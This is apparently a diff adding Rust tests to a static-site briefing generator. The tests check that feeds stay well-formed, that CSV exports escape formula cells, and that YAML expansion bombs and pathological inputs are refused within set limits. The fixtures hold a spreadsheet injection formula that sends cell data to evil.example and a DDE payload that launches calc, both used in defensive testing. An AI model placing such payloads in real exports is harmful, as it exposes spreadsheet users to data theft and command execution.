@@ -395,3 +395,234 @@ fn a_second_build_while_the_first_is_paused_never_leaves_half_a_site() {
     assert!(root.join("public/index.html").is_file());
     assert!(staging_dirs(root).is_empty(), "leftovers remain");
 }
+
+#[test]
+fn exports_cannot_be_turned_against_spreadsheets_or_feed_readers() {
+    let dir = fixture("minimal");
+    // Characters XML forbids, through YAML escapes and raw in Markdown.
+    edit(
+        dir.path(),
+        "content/briefing.yaml",
+        "title: \"Widgets go global\"",
+        "title: \"Widgets\\x01 go \\uFFFE global\\x1b\"\nbase_url: \"https://example.org/brief/\"",
+    );
+    edit(
+        dir.path(),
+        "content/timeline.yaml",
+        "detail: \"The Trade Office has not ruled.\"",
+        "detail: \"The Trade Office\\x0B has not ruled.\\uFFFF\"",
+    );
+    edit(
+        dir.path(),
+        "content/sources/alpha.md",
+        "title: \"Acme eyes exports\"",
+        "title: \"Acme\\x02 eyes exports\"",
+    );
+    // Cells a spreadsheet would run as formulas, and a negative figure.
+    edit(
+        dir.path(),
+        "content/claims.yaml",
+        "statement: \"Acme doubled its widget capacity in 2025.\"",
+        "statement: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"click\\\")\"",
+    );
+    edit(
+        dir.path(),
+        "content/claims.yaml",
+        "topic: regulation",
+        "topic: \"@SUM(1+1)\"",
+    );
+    edit(
+        dir.path(),
+        "content/claims.yaml",
+        "topic: market",
+        "topic: \"-2+3\"",
+    );
+    edit(
+        dir.path(),
+        "content/claims.yaml",
+        "metric: \"Acme widget capacity\"",
+        "metric: \"+cmd|' /C calc'!A0\"",
+    );
+    edit(
+        dir.path(),
+        "content/claims.yaml",
+        "value: 2000",
+        "value: -2.5",
+    );
+    let run = briefing(dir.path(), &["build"]);
+    assert!(run.ok(), "{}", run.stderr);
+    let public = dir.path().join("public");
+
+    for xml in ["feed.xml", "sitemap.xml"] {
+        let text = read(&public.join(xml));
+        if let Err(e) = roxmltree::Document::parse(&text) {
+            panic!("{xml} is not well-formed: {e}\n{text}");
+        }
+        assert!(
+            !text.contains(['\u{1}', '\u{2}', '\u{b}', '\u{1b}', '\u{fffe}', '\u{ffff}']),
+            "{xml} carries a character XML forbids"
+        );
+    }
+    assert!(read(&public.join("feed.xml")).contains("Widgets\u{fffd} go"));
+
+    let mut csv = csv::Reader::from_path(public.join("data/claims.csv")).unwrap();
+    let header = csv.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
+    let formula_start = ['=', '+', '-', '@', '\t', '\r'];
+    for row in &rows {
+        for (i, cell) in row.iter().enumerate() {
+            if header[i] == *"figure_value" {
+                continue;
+            }
+            assert!(
+                !cell.starts_with(formula_start),
+                "{}: `{cell}` would run as a formula",
+                &header[i]
+            );
+        }
+    }
+    let row = rows
+        .iter()
+        .find(|r| &r[0] == "acme-capacity-doubled")
+        .unwrap();
+    assert!(row[col("statement")].starts_with("'=HYPERLINK("), "{row:?}");
+    assert_eq!(&row[col("figure_metric")], "'+cmd|' /C calc'!A0");
+    assert_eq!(
+        &row[col("figure_value")],
+        "-2.5",
+        "a negative number stays a number"
+    );
+    let topics: Vec<&str> = rows.iter().map(|r| &r[col("topic")]).collect();
+    assert!(topics.contains(&"'@SUM(1+1)"), "{topics:?}");
+    assert!(topics.contains(&"'-2+3"), "{topics:?}");
+}
+
+/// Runs a build with its address space capped at `mib` MiB and killed
+/// after `seconds`: a guard against blow-ups, not a benchmark (each input
+/// here is handled in well under a second when the work is linear).
+/// Returns the run and how long it took.
+fn bounded(dir: &Path, seconds: u64, mib: u64) -> (Run, Duration) {
+    let started = Instant::now();
+    let mut child = Command::new("sh")
+        .arg("-c")
+        .arg(format!("ulimit -v {}; exec \"$0\" build", mib * 1024))
+        .arg(env!("CARGO_BIN_EXE_briefing"))
+        .current_dir(dir)
+        .env("NO_COLOR", "1")
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    while child.try_wait().unwrap().is_none() {
+        if started.elapsed() > Duration::from_secs(seconds) {
+            child.kill().ok();
+            let out = child.wait_with_output().unwrap();
+            panic!(
+                "still running after {seconds} s: {}",
+                String::from_utf8_lossy(&out.stderr)
+            );
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let run: Run = child.wait_with_output().unwrap().into();
+    (run, started.elapsed())
+}
+
+/// The bound every bomb below must stay inside: 30 s (a debug build on a
+/// busy 2-core machine) and 2 GiB of address space.
+fn refused_within_bounds(dir: &Path, expect: &str) {
+    let (run, took) = bounded(dir, 30, 2048);
+    assert_eq!(
+        run.code,
+        Some(1),
+        "after {took:?}, stdout: {}\nstderr: {}",
+        run.stdout,
+        run.stderr
+    );
+    assert!(
+        run.stderr.contains(expect),
+        "expected `{expect}` in:\n{}",
+        run.stderr
+    );
+    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
+}
+
+#[test]
+fn a_yaml_anchor_fanned_out_a_thousand_times_is_refused() {
+    let dir = fixture("minimal");
+    let big = "x".repeat(1024 * 1024);
+    let refs = vec!["*big"; 1000].join(", ");
+    let claims = read(&dir.path().join("content/claims.yaml"));
+    std::fs::write(
+        dir.path().join("content/claims.yaml"),
+        claims.replacen(
+            "  topic: supply\n",
+            &format!("  topic: supply\n  tags: [&big \"{big}\"]\n"),
+            1,
+        ) + &format!(
+            "- id: fan-out\n  statement: \"x\"\n  topic: t\n  verdict: unverified\n  verdict_note: \"n\"\n  tags: [{refs}]\n"
+        ),
+    )
+    .unwrap();
+    refused_within_bounds(dir.path(), "would expand this YAML");
+}
+
+#[test]
+fn entity_names_of_repetitive_text_are_refused() {
+    let dir = fixture("minimal");
+    let mut entities = read(&dir.path().join("content/entities.yaml"));
+    for i in 0..50 {
+        entities.push_str(&format!(
+            "- id: e{i}\n  name: \"{}\"\n  aliases: [\"{}\"]\n",
+            "ab".repeat(100_000),
+            "ba".repeat(100_000)
+        ));
+    }
+    std::fs::write(dir.path().join("content/entities.yaml"), entities).unwrap();
+    refused_within_bounds(dir.path(), "characters long, over the limit of 200");
+}
+
+#[test]
+fn a_long_quote_that_misses_a_long_original_is_reported_quickly() {
+    let dir = fixture("minimal");
+    let original = "the filing shows capacity grew and the permit waits ".repeat(80_000);
+    std::fs::write(dir.path().join("originals/alpha.txt"), original).unwrap();
+    let quote = "the filing shows that capacity grew while permits wait ".repeat(17);
+    edit(
+        dir.path(),
+        "content/sources/alpha.md",
+        "quote: \"Acme doubled capacity last year\"",
+        &format!("quote: \"{}\"", quote.trim()),
+    );
+    refused_within_bounds(dir.path(), "the closest passage in the original reads");
+
+    // A quote past the length limit is refused before any search.
+    edit(
+        dir.path(),
+        "content/sources/alpha.md",
+        "quote: \"the permit is still pending\"",
+        &format!("quote: \"{}\"", "word ".repeat(400).trim()),
+    );
+    refused_within_bounds(
+        dir.path(),
+        "this quote is 1999 characters long, over the limit of 1000",
+    );
+}
+
+#[test]
+fn pathological_markdown_renders_in_linear_time() {
+    let dir = fixture("minimal");
+    let page = format!(
+        "---\ntitle: \"Many\"\n---\n{}\n{}x{}\n\n{}\n",
+        "## Same heading\n\n".repeat(20_000),
+        "![".repeat(10_000),
+        "](i.png)".repeat(10_000),
+        "[![".repeat(5_000)
+    );
+    std::fs::write(dir.path().join("content/pages/many.md"), page).unwrap();
+    let (run, took) = bounded(dir.path(), 30, 2048);
+    assert!(run.ok(), "after {took:?}: {}", run.stderr);
+    let html = read(&dir.path().join("public/pages/many/index.html"));
+    assert!(html.contains("id=\"same-heading-19999\""));
+}
